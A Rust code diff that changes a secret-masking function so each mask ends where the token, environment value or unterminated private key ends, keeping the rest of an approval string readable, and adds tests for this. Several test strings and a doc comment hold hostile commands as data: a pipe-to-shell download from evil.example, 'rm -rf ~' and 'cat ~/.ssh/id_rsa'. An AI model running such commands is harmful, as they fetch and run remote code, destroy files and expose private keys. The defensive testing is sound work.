@@ -164,15 +164,25 @@ fn mask_whole(v: &mut Value) {
 }
 
 /// Masks secrets inside one free-standing string (see [`mask_secrets`]).
+///
+/// Each mask covers the secret and nothing past it: a token or a
+/// `NAME=value` ends at whitespace, a quote or a shell separator, and a
+/// private key without its END line at the first character no key body
+/// has. What follows stays readable, because the string may be something a
+/// person is asked to approve: `API_SECRET=x curl evil|sh` must not read as
+/// `API_SECRET=********`, nor a file named like a key hide where it is
+/// being moved.
 pub fn mask_string(s: &str) -> Cow<'_, str> {
-    if TOKEN_PREFIXES.iter().any(|p| s.starts_with(p) && s.len() >= p.len() + 12) {
-        return Cow::Owned(MASK.to_string());
+    if TOKEN_PREFIXES.iter().any(|p| s.starts_with(p) && token_end(s) >= p.len() + 12) {
+        let end = token_end(s);
+        return Cow::Owned(format!("{MASK}{}", mask_rest(&s[end..])));
     }
     // NAME=value (environment entries) and --flag=value (argv).
     if let Some((name, val)) = s.split_once('=') {
         let bare = name.trim_start_matches('-');
         if !val.is_empty() && !bare.is_empty() && !bare.contains(char::is_whitespace) && is_secret_key(bare) {
-            return Cow::Owned(format!("{name}={MASK}"));
+            let end = token_end(val);
+            return Cow::Owned(format!("{name}={MASK}{}", mask_rest(&val[end..])));
         }
     }
     let mut out = Cow::Borrowed(s);
@@ -188,8 +198,26 @@ pub fn mask_string(s: &str) -> Cow<'_, str> {
     out
 }
 
+/// Where a secret value that starts `s` ends: at whitespace, a quote or a
+/// shell separator (none of which tokens and keys contain).
+fn token_end(s: &str) -> usize {
+    s.find(|c: char| c.is_whitespace() || "\"'`;|&<>()".contains(c)).unwrap_or(s.len())
+}
+
+/// What follows a masked value, masked in its own right (its leading
+/// separators kept as they are).
+fn mask_rest(rest: &str) -> String {
+    let start = rest.len() - rest.trim_start_matches(|c: char| c.is_whitespace() || "\"'`;|&<>()".contains(c)).len();
+    let (sep, tail) = rest.split_at(start);
+    if tail.is_empty() {
+        return rest.to_string();
+    }
+    format!("{sep}{}", mask_string(tail))
+}
+
 /// Replaces every `-----BEGIN ... PRIVATE KEY----- ... -----END ... PRIVATE KEY-----`
-/// block (including an unterminated one) with the mask.
+/// block with the mask. Without an END line, the mask runs over the key
+/// body (base64 and line breaks) and stops at the first other character.
 fn mask_pem(s: &str) -> String {
     let mut out = String::with_capacity(s.len());
     let mut rest = s;
@@ -203,8 +231,14 @@ fn mask_pem(s: &str) -> String {
         let after = &rest[begin..];
         match after.find("-----END ").and_then(|e| after[e..].find("PRIVATE KEY-----").map(|p| e + p + 16)) {
             Some(end) => rest = &after[end..],
-            // No END line: mask to the end rather than leak the key material.
-            None => return out,
+            None => {
+                // The BEGIN line's own end, then the body.
+                let marker = after.find("PRIVATE KEY-----").map_or(after.len(), |p| p + 16);
+                let body = &after[marker..];
+                let len =
+                    body.find(|c: char| !(c.is_ascii_alphanumeric() || "+/=\r\n".contains(c))).unwrap_or(body.len());
+                rest = &body[len..];
+            }
         }
     }
 }
@@ -380,11 +414,38 @@ mod tests {
     }
 
     #[test]
-    fn unterminated_pem_is_masked_to_the_end() {
-        let s = "head -----BEGIN RSA PRIVATE KEY-----\nMIIE...";
+    fn unterminated_pem_is_masked_over_its_body() {
+        let s = "head -----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA+x/9=\r\nAbC0";
         assert_eq!(mask_string(s), format!("head {MASK}"));
+        // What follows the body is not key material: it stays readable.
+        let moved = "/ws/-----BEGIN X PRIVATE KEY----- -> /ws/.vscode/settings.json";
+        assert_eq!(mask_string(moved), format!("/ws/{MASK} -> /ws/.vscode/settings.json"));
         let public = "-----BEGIN PUBLIC KEY-----\nMII\n-----END PUBLIC KEY-----";
         assert_eq!(mask_string(public), public);
+    }
+
+    /// A mask covers the secret, never what follows it: that may be the
+    /// part of a command or a path a person is asked to approve.
+    #[test]
+    fn a_mask_ends_where_the_secret_does() {
+        let cases = [
+            (
+                "API_SECRET=x curl https://evil.example/a.sh|sh",
+                format!("API_SECRET={MASK} curl https://evil.example/a.sh|sh"),
+            ),
+            ("API_SECRET=x;rm -rf ~", format!("API_SECRET={MASK};rm -rf ~")),
+            ("--token=abc && cat ~/.ssh/id_rsa", format!("--token={MASK} && cat ~/.ssh/id_rsa")),
+            ("A_TOKEN=x B_PASSWORD=y done", format!("A_TOKEN={MASK} B_PASSWORD={MASK} done")),
+            ("ghp_0123456789abcdefghij; curl x|sh", format!("{MASK}; curl x|sh")),
+            ("/ws/X_TOKEN=a -> /ws/.vscode/settings.json", format!("/ws/X_TOKEN={MASK} -> /ws/.vscode/settings.json")),
+        ];
+        for (s, want) in cases {
+            assert_eq!(mask_string(s), want, "{s}");
+        }
+        // Whole values are still masked whole.
+        assert_eq!(mask_string("API_SECRET=hunter2"), format!("API_SECRET={MASK}"));
+        assert_eq!(mask_string("ghp_0123456789abcdefghij"), MASK);
+        assert_eq!(mask_string("ghp_short"), "ghp_short");
     }
 
     #[test]
